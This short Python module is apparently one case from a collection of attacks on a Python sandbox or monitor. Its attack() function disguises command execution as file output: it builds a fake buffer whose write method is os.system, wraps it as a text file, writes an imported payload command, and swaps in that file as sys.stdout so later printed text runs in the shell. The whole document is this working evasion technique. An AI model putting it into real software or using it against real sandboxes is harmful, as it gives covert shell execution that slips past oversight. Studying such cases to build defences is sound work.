"""A text waits in a file for the application to write."""
CATEGORY = "deferred"
REACH = "run"

import io
import os
import sys

from . import payload


class Buffer:
    """What a text file needs, and a function of C that is called."""
    closed = False
    readable = writable = staticmethod(lambda: True)
    seekable = staticmethod(lambda: False)
    flush = close = staticmethod(int)

    def __init__(self):
        self.write = os.system


def attack():
    file = io.TextIOWrapper(Buffer(), encoding="utf-8")
    file.write(payload.COMMAND + "\n")
    vars(sys)["stdout"] = file
